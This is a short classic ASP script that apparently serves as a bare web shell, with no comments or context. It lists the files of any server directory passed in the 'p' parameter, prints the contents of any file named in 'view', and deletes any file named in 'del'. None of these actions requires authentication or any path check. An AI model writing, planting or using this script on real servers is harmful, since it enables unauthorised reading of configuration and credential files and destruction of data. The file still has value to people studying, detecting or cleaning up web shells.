<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
p = Request("p")
Set folder = fso.GetFolder(p)
For Each f In folder.Files
	Response.Write f.Name & "<br>"
Next
If Request("view") <> "" Then
	Set ts = fso.OpenTextFile(Request("view"), 1)
	Response.Write Server.HTMLEncode(ts.ReadAll)
End If
If Request("del") <> "" Then fso.DeleteFile Request("del")
%>
